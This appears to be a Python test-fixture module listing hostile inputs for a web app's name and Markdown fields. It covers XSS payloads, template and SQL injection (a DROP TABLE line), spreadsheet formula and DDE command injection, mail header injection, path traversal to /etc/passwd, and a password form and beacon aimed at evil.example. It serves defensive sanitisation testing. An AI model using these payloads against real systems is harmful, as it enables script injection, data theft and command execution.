"""What people who mean harm type where a name is asked for.

No address of the web is among them, because a name with one is refused.
"""

# Of 200 letters at most, as a name may have; each looks at one place where a text may be taken for
# more than a text.
NAMES = {
    "a script": "<script>alert(1)</script>",
    "a picture that fails": "<img src=x onerror=alert(1)>",
    "out of an attribute": '" autofocus onfocus="alert(1)',
    "out of an attribute by an apostrophe": "' autofocus onfocus='alert(1)",
    "out of a title and a text area": "</title></textarea></style></script><svg onload=alert(1)>",
    "out of a comment": "--><b>bold</b><!--",
    "out of character data": "]]><b>bold</b>",
    "escaped already": "&lt;b&gt; &#60;b &amp;lt;b&amp;gt; %3Cb",
    "a template's variable": "{{ order }} {{ request }} {{ perms }}",
    "a template's tag": "{% debug %} {% include 'x' %} {# hidden #}",
    "out of a translated text": "%(name)s %(x)d %s %n {0} {name} ${name}",
    "out of a statement": "'; DROP TABLE tickets_ticket; --",
    "every row": "%' OR ''='",
    "wildcards": "_%_% \\% \\_",
    "a formula": "=1+1",
    "a formula by plus": "+1+1",
    "a formula by minus": "-1+1",
    "a formula by at": "@SUM(A1)",
    "a program": "=cmd|' /C calc'!A0",
    "a full-width formula": "＝1+1",
    "a small formula": "﹦1+1",
    "a formula after a space": " =1+1",
    "a formula after a wide space": "\u3000=1+1",
    "a formula after a tab": "\t=1+1",
    "a formula after a line break": "\r\n=1+1",
    "a formula after a byte order mark": "\ufeff=1+1",
    "a formula after an invisible space": "\u200b=1+1",
    "a formula in the next cell": 'Ada";=1+1;"=1+1\t=A',
    "a header": "Ada\r\nBcc: eve@localhost\r\nX-Evil: 1\r\n\r\nBody",
    "a header by a bare line feed": "Ada\nBcc: eve@localhost",
    "a header by U+2028": "Ada\u2028Bcc: eve@localhost",
    "a header by U+0085": "Ada\u0085Bcc: eve@localhost",
    "a header in disguise": "=?utf-8?Q?Ada=0D=0ABcc:_eve@localhost?=",
    "a header with percent signs": "Ada%0d%0aBcc: eve@localhost",
    "the end of a mail": "Ada\r\n.\r\nRCPT TO: <eve@localhost>",
    "an alarm": "Ada\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:EMAIL\r\nATTENDEE:eve@x",
    "marks of a calendar": "Ada\\n;LANGUAGE=x: y,z\\,\\;\\ \\",
    "a path": "../../../etc/passwd",
    "a path of Windows": "..\\..\\boot",
    "another file's name": 'a"; filename="evil',
    "text that runs backwards": "\u202egnp\u202c \u2066adA\u2069 \u200f\u200e",
    "invisible letters": "A\u200bd\u200ca\u2060\u00ad",
    "other tags": "A\U000e0041\U000e0064\U000e0061da",
    "half letters": b"Ada \xed\xa0\x80 \xff".decode(errors="replace"),
    "a zero byte": "Ada\0Lovelace",
    "control characters": "Ada\x1b[31m\x07\x08\x7f\x9b",
    "no character": "Ada \ufffe\uffff\U0010ffff",
    "a private letter": "Ada \ue000",
    "a tower of accents": "A" + "\u0301\u0316\u0334" * 60,
    "one word": "x" * 200,
    "200 wide letters": "W" * 200,
    "200 wider letters": "山" * 200,
    "the widest letters": "﷽" * 20,
    "long dashes": "⸻" * 100,
    "200 letters of emoji": ("👩🏽\u200d🦽" * 50)[:200],
    "flags and families": "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f 👨‍👩‍👧‍👦",
    "from right to left": "מרים אל־חסן محمد" * 5,
    "up and down": "ᠮᠣᠩᠭᠣᠯ ꓤ ﻿ ͏ ᅠ ㅤ",
    "Markdown": "**b** [x](javascript&colon;alert(1)) ![x](y) # `c`",
}

# What an organiser may have pasted into every single field of theirs; 60 letters at most, and no
# line break of its own where a line break is shown as one.
EVERYWHERE = "\"'><b>{{ x }}{% y %}&amp;=1;,\\"
ON_ONE_LINE = EVERYWHERE + "\r\nBcc: e@x\u2028BEGIN:VALARM"

# What an editor may have pasted into a text in Markdown.
MARKDOWN = """
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<style>body { display: none }</style>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name="password"></form>

# A heading <b onclick=alert(1)>with markup</b>

[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1))
[d](data:text/html;base64,PHNjcmlwdD4=) [e](vbscript:x) [f](java\\script:alert(1))
[g](https://example.org/ "title\\" onclick=\\"alert(1)") [h](//evil.example/"onclick="alert(1))
[i](file:///etc/passwd) [j](<javascript:alert(1)>) [k][reference] <javascript:alert(1)>

[reference]: javascript:alert(1) "onclick=alert(1)"

![picture](https://evil.example/beacon.gif) ![script](javascript:alert(1))

| a | <script>alert(1)</script> |
|---|---|
| `</code><script>alert(1)</script>` | <b style="position:fixed">x</b> |

```html" onclick="alert(1)
</code></pre><script>alert(1)</script>
```

{{ settings }} {% debug %}
"""
